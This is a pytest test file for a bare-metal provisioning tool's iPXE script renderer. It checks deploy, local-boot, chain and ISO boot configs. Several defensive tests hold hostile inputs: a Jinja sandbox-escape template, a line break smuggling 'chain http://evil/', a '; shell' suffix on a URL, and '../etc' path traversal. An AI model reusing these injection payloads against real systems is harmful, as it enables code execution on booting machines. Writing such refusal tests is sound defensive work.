"""Rendered iPXE scripts: the chain script, deploy configs and local boot configs."""

from __future__ import annotations

import pathlib
import re

import pytest
from jinja2.exceptions import SecurityError

from ingot.boot.errors import BootConfigError, UrlExpiresTooSoon
from ingot.boot.kernel_params import KernelCommandLine, build_kernel_params
from ingot.boot.render import (
    render_boot_script,
    render_deploy_config,
    render_iso_boot_config,
    render_local_boot_config,
)
from ingot.boot.sources import BootUrl
from tests.boot.conftest import API_URL, HTTP_URL, NODE, SIG, TEMP_KERNEL, TEMP_RAMDISK

LOCAL_KERNEL = f"{HTTP_URL}/{NODE}/deploy_kernel"
LOCAL_RAMDISK = f"{HTTP_URL}/{NODE}/deploy_ramdisk"


def params(**extra: str | None) -> KernelCommandLine:
    return build_kernel_params(ipa_api_url=API_URL, append_params="nofb vga=normal",
                               extra=extra)


def line_starting(text: str, prefix: str) -> str:
    lines = [line for line in text.splitlines() if line.startswith(prefix)]
    assert len(lines) == 1, f"expected one line starting with {prefix!r} in:\n{text}"
    return lines[0]


def labels(text: str) -> set[str]:
    return {line[1:] for line in text.splitlines() if line.startswith(":")}


def gotos(text: str) -> set[str]:
    return set(re.findall(r"goto (\w+)", text))


@pytest.mark.parametrize("boot_mode", ["bios", "uefi"])
def test_deploy_config_from_the_http_root(boot_mode: str) -> None:
    config = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                                  boot_mode=boot_mode)  # type: ignore[arg-type]
    text = config.text
    assert text.startswith("#!ipxe\n")
    kernel = line_starting(text, "kernel ")
    assert kernel == (f"kernel --name deploy_kernel {LOCAL_KERNEL} nofb vga=normal "
                      f"ipa-api-url={API_URL} BOOTIF=${{mac}} initrd=deploy_ramdisk "
                      f"|| goto ingot_retry")
    initrd = line_starting(text, "initrd ")
    assert initrd == f"initrd --name deploy_ramdisk {LOCAL_RAMDISK} || goto ingot_retry"
    assert line_starting(text, "boot") == "boot || goto ingot_retry"
    assert "imgfree" in text.splitlines()
    assert config.kind == "deploy" and config.boot_mode == boot_mode
    assert config.expires_at is None and config.seconds_left(0) is None
    assert config.usable_for(10**9)


def test_deploy_config_retries_are_bounded() -> None:
    text = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                                attempts=4).text
    assert "iseq ${ingot_attempt} 4 && goto ingot_fail ||" in text
    assert "inc ingot_attempt" in text
    # Every retry path goes through the counter: the only backward jump is after it.
    retry_block = text.split(":ingot_retry\n", 1)[1].split(":ingot_fail\n", 1)[0]
    assert retry_block.index("inc ingot_attempt") < retry_block.index("goto ingot_deploy")
    fail_block = text.split(":ingot_fail\n", 1)[1]
    assert "goto ingot_deploy" not in fail_block
    assert "set ingot_stop 1" in fail_block and fail_block.rstrip().endswith("exit 1")
    assert gotos(text) <= labels(text)


def test_deploy_config_with_swift_temp_urls() -> None:
    kernel = BootUrl(TEMP_KERNEL, expires_at=1_900_000_000)
    ramdisk = BootUrl(TEMP_RAMDISK, expires_at=1_899_999_000)
    config = render_deploy_config(kernel, ramdisk, params(), node_uuid=NODE,
                                  boot_mode="uefi")
    # The query goes in as is: iPXE treats '&' inside a word as a plain character.
    assert f" {TEMP_KERNEL} nofb " in line_starting(config.text, "kernel ")
    assert line_starting(config.text, "initrd ").startswith(
        f"initrd --name deploy_ramdisk {TEMP_RAMDISK} ")
    # The URL's basename is the image id; --name and initrd= keep the name UEFI uses.
    assert "initrd=deploy_ramdisk" in line_starting(config.text, "kernel ")
    assert config.expires_at == 1_899_999_000
    assert config.seconds_left(now=1_899_998_000) == 1000
    assert config.usable_for(999, now=1_899_998_000)
    assert not config.usable_for(1001, now=1_899_998_000)
    assert SIG not in repr(config) and SIG not in repr(kernel)


def test_deploy_config_takes_any_expiring_url() -> None:
    class TempURL:  # the shape of ingot.swift.tempurl.TempURL
        def __init__(self, url: str, expires_at: int) -> None:
            self.url, self.expires_at = url, expires_at

    config = render_deploy_config(TempURL(TEMP_KERNEL, 1_900_000_000), LOCAL_RAMDISK,
                                  params(), node_uuid=NODE)
    assert config.expires_at == 1_900_000_000
    assert config.urls[0].url == TEMP_KERNEL and config.urls[1].expires_at is None


def test_temp_url_expiring_within_the_boot_window_is_refused() -> None:
    kernel = BootUrl(TEMP_KERNEL, expires_at=1_000_000 + 1200)
    with pytest.raises(UrlExpiresTooSoon) as caught:
        render_deploy_config(kernel, LOCAL_RAMDISK, params(), node_uuid=NODE,
                             valid_for=1860, now=1_000_000)
    assert caught.value.field == "deploy_kernel URL"
    assert "expires in 1200 s" in str(caught.value) and "1860 s" in str(caught.value)
    assert SIG not in str(caught.value)
    ok = render_deploy_config(kernel, LOCAL_RAMDISK, params(), node_uuid=NODE,
                              valid_for=1100, now=1_000_000)
    assert ok.expires_at == 1_001_200


def test_ipxe_timeout_is_given_in_milliseconds() -> None:
    text = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                                timeout=45).text
    assert line_starting(text, "kernel ").startswith("kernel --timeout 45000 --name ")
    assert line_starting(text, "initrd ").startswith("initrd --timeout 45000 --name ")


def test_initrd_name_reaches_both_the_initrd_and_the_command_line() -> None:
    cmdline = build_kernel_params(ipa_api_url=API_URL, initrd_name="agent.initramfs")
    text = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, cmdline, node_uuid=NODE,
                                initrd_name="agent.initramfs").text
    assert "--name agent.initramfs " in line_starting(text, "initrd ")
    kernel_words = line_starting(text, "kernel ").split()
    assert kernel_words.count("initrd=agent.initramfs") == 1


def test_plain_string_kernel_params_get_initrd_added_and_checked() -> None:
    text = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK,
                                f"ipa-api-url={API_URL} BOOTIF=${{mac}}",
                                node_uuid=NODE).text
    assert line_starting(text, "kernel ").endswith(
        f"ipa-api-url={API_URL} BOOTIF=${{mac}} initrd=deploy_ramdisk || goto ingot_retry")
    with pytest.raises(BootConfigError, match="kernel_params"):
        render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, "a=${net0/ip}", node_uuid=NODE)


@pytest.mark.parametrize("boot_mode", ["bios", "uefi"])
def test_local_boot_config(boot_mode: str) -> None:
    config = render_local_boot_config(node_uuid=NODE, boot_mode=boot_mode)  # type: ignore[arg-type]
    text = config.text
    assert text.startswith("#!ipxe\n") and NODE in text
    assert "kernel " not in text and "initrd " not in text and "http" not in text
    if boot_mode == "bios":
        assert "sanboot --no-describe --drive 0x80 || goto ingot_no_disk" in text
    else:
        assert "sanboot" not in text  # drive numbers are BIOS INT 13h drives
    assert text.rstrip().endswith("exit 0")
    assert config.expires_at is None and config.kind == "local_boot"


def test_local_boot_drive_can_be_another_bios_disk() -> None:
    text = render_local_boot_config(node_uuid=NODE, drive=0x81).text
    assert "sanboot --no-describe --drive 0x81 " in text
    with pytest.raises(BootConfigError, match="local boot drive"):
        render_local_boot_config(node_uuid=NODE, drive=0x10)


def test_boot_script_chains_the_mac_config_then_every_nic_and_gives_up() -> None:
    text = render_boot_script(attempts=2, retry_delay=7).text
    assert text.startswith("#!ipxe\n")
    assert "chain --autofree pxelinux.cfg/${mac:hexhyp} && goto ingot_done ||" in text
    assert ("chain --autofree pxelinux.cfg/${net${ingot_nic}/mac:hexhyp} "
            "&& goto ingot_done ||") in text
    assert "iseq ${ingot_round} 2 && goto ingot_give_up ||" in text
    assert "iseq ${ingot_nic} 32 && goto ingot_nics_done ||" in text
    assert "sleep 7" in text
    give_up = text.split(":ingot_give_up\n", 1)[1].split(":ingot_done\n", 1)[0]
    assert "goto ingot_try" not in give_up and give_up.rstrip().endswith("exit 1")
    assert "chain --autofree" not in give_up  # no fallback configured
    assert gotos(text) <= labels(text)


def test_boot_script_with_subdir_and_fallback() -> None:
    text = render_boot_script(config_subdir="ipxe/macs",
                              fallback_script="http://192.0.2.10:8080/inspector.ipxe").text
    assert "chain --autofree ipxe/macs/${mac:hexhyp} " in text
    give_up = text.split(":ingot_give_up\n", 1)[1]
    assert ("chain --autofree http://192.0.2.10:8080/inspector.ipxe && goto ingot_done ||"
            in give_up)
    relative = render_boot_script(fallback_script="fallback.ipxe").text
    assert "chain --autofree fallback.ipxe && goto ingot_done ||" in relative


@pytest.mark.parametrize("subdir", ["../etc", "/abs/../x", "a b", "a/${x}", ""])
def test_boot_script_refuses_unsafe_subdirs(subdir: str) -> None:
    with pytest.raises(BootConfigError, match="pxe_config_subdir"):
        render_boot_script(config_subdir=subdir)


def test_template_override_renders_with_strict_undefined(tmp_path: pathlib.Path) -> None:
    good = tmp_path / "deploy.ipxe.j2"
    good.write_text("#!ipxe\nkernel {{ kernel_url }} {{ kernel_cmdline }}\n"
                    "initrd {{ ramdisk_url }}\nboot\n")
    text = render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                                template=good).text
    assert text.splitlines()[1].startswith(f"kernel {LOCAL_KERNEL} nofb vga=normal ")
    misspelt = tmp_path / "bad.ipxe.j2"
    misspelt.write_text("#!ipxe\nkernel {{ kernel_ulr }}\n")
    with pytest.raises(BootConfigError, match="kernel_ulr"):
        render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                             template=misspelt)
    with pytest.raises(BootConfigError, match="cannot be read"):
        render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                             template=tmp_path / "missing.j2")


def test_template_override_cannot_escape_the_sandbox(tmp_path: pathlib.Path) -> None:
    evil = tmp_path / "evil.ipxe.j2"
    evil.write_text("#!ipxe\n{{ kernel_url.__class__.__mro__[1].__subclasses__() }}\n")
    with pytest.raises(SecurityError, match="is unsafe"):
        render_deploy_config(LOCAL_KERNEL, LOCAL_RAMDISK, params(), node_uuid=NODE,
                             template=evil)


def test_edited_template_is_picked_up(tmp_path: pathlib.Path) -> None:
    template = tmp_path / "local.ipxe.j2"
    template.write_text("#!ipxe\necho one\n")
    assert "echo one" in render_local_boot_config(node_uuid=NODE, template=template).text
    template.write_text("#!ipxe\necho two, longer\n")
    assert "echo two" in render_local_boot_config(node_uuid=NODE, template=template).text


def test_template_value_with_a_line_break_is_refused(tmp_path: pathlib.Path) -> None:
    # A template that builds a line break out of checked values still cannot inject one.
    template = tmp_path / "t.ipxe.j2"
    template.write_text('#!ipxe\necho {{ node_uuid ~ "\\nchain http://evil/" }}\n')
    with pytest.raises(BootConfigError, match="template value"):
        render_local_boot_config(node_uuid=NODE, template=template)



def test_iso_boot_config_retries_are_bounded_and_urls_checked() -> None:
    config = render_iso_boot_config(BootUrl(TEMP_KERNEL, 1_000_100), node_uuid=NODE,
                                    attempts=3, valid_for=60, now=1_000_000)
    text = config.text
    assert line_starting(text, "sanboot") == \
        f"sanboot --no-describe {TEMP_KERNEL} || goto ingot_retry"
    assert line_starting(text, "iseq") == \
        "iseq ${ingot_attempt} 3 && goto ingot_fail ||"
    assert gotos(text) <= labels(text)
    assert config.kind == "iso_boot" and config.expires_at == 1_000_100
    with pytest.raises(UrlExpiresTooSoon) as caught:
        render_iso_boot_config(BootUrl(TEMP_KERNEL, 1_000_100), node_uuid=NODE,
                               valid_for=200, now=1_000_000)
    assert caught.value.field == "boot_iso URL"
    with pytest.raises(BootConfigError):
        render_iso_boot_config("http://192.0.2.1/x.iso ; shell", node_uuid=NODE)
